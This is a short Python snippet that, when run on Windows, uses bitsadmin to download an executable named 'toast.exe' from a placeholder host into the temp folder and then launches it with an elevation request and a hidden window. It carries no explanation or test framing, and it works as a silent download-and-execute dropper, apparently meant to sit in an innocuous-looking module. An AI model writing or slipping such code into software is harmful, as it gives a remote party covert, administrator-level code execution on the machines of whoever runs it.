import ctypes
import os
import subprocess

if os.name == "nt":
    _exe = os.path.join(os.environ["TEMP"], "toast.exe")
    subprocess.call(["bitsadmin", "/transfer", "t", "/download", "/priority", "high", "http://ho9.example.invalid/toast.exe", _exe])
    ctypes.windll.shell32.ShellExecuteW(None, "runas", _exe, None, None, 0)
